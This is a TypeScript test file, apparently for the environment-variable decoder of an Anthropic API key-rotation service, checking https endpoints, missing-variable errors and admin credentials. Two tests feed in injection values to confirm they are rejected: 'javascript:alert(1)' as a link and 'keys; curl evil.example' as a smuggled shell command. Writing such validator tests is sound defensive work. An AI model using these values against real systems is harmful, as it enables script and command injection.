import {
  decodeAdminEnv,
  decodeEnv,
  encodeAdminEnv,
  encodeEnv,
  type FunctionEnv,
} from '../../lib/contract/env';
import { deployedNames } from '../../lib/contract/names';

const ENV: FunctionEnv = {
  environment: 'prod',
  topicArn: 'arn:aws:sns:eu-central-1:111122223333:anthropic-keys-prod',
  eventBusName: 'default',
  expectedHome: { organizationId: 'org_1', workspaceId: 'wrkspc_1' },
  anthropicBaseUrl: 'https://api.anthropic.com',
  adminFunction: 'anthropic-keys-prod-admin',
  metricsNamespace: 'AnthropicKeyRotation',
  cliCommand: 'pnpm exec anthropic-keys',
  projectUrl: 'https://git.example.com/keys',
  runbookUrl: 'https://wiki.example.com/runbook',
};

test('a function reads what its deployment wrote', () => {
  expect(decodeEnv(encodeEnv(ENV))).toMatchObject(ENV);
});

test('every missing variable is named at once', () => {
  expect(() => decodeEnv({})).toThrow(/ROTATION_ENVIRONMENT.*ROTATION_TOPIC_ARN.*ROTATION_ANTHROPIC_URL/);
});

test('the endpoint must be https, or on this machine', () => {
  const at = (url: string) => () => decodeEnv({ ...encodeEnv(ENV), ROTATION_ANTHROPIC_URL: url });
  expect(at('http://api.anthropic.com')).toThrow(/https/);
  expect(at('http://127.0.0.1:8080')).not.toThrow();
});

test('a link for mails is an https URL', () => {
  for (const name of ['ROTATION_PROJECT_URL', 'ROTATION_RUNBOOK_URL'])
    expect(() => decodeEnv({ ...encodeEnv(ENV), [name]: 'javascript:alert(1)' })).toThrow(name);
});

test('the command of the command line must run what is installed; a deployment without one is of an earlier release', () => {
  const called = (ROTATION_CLI_COMMAND?: string) => {
    const { ROTATION_CLI_COMMAND: _, ...vars } = encodeEnv(ENV);
    return deployedNames(decodeEnv({ ...vars, ...(ROTATION_CLI_COMMAND && { ROTATION_CLI_COMMAND }) }));
  };
  expect(called().cliCommand).toBe('npx --no -- anthropic-keys');
  expect(called('pnpm exec anthropic-keys').cliCommand).toBe('pnpm exec anthropic-keys');
  expect(() => called('keys; curl evil.example')).toThrow(
    /ROTATION_CLI_COMMAND is "keys; curl evil.example"/,
  );
});

test('Admin access needs one of two credentials, or what is missing is named', () => {
  const federation = { ruleId: 'r', organizationId: 'o', serviceAccountId: 's', audience: 'a' };
  expect(decodeAdminEnv(encodeAdminEnv({ federation }))).toEqual({ federation });
  expect(decodeAdminEnv(encodeAdminEnv({ adminKeySecretArn: 'arn' }))).toEqual({ adminKeySecretArn: 'arn' });
  expect(() => decodeAdminEnv({})).toThrow(/ROTATION_FEDERATION_RULE/);
});
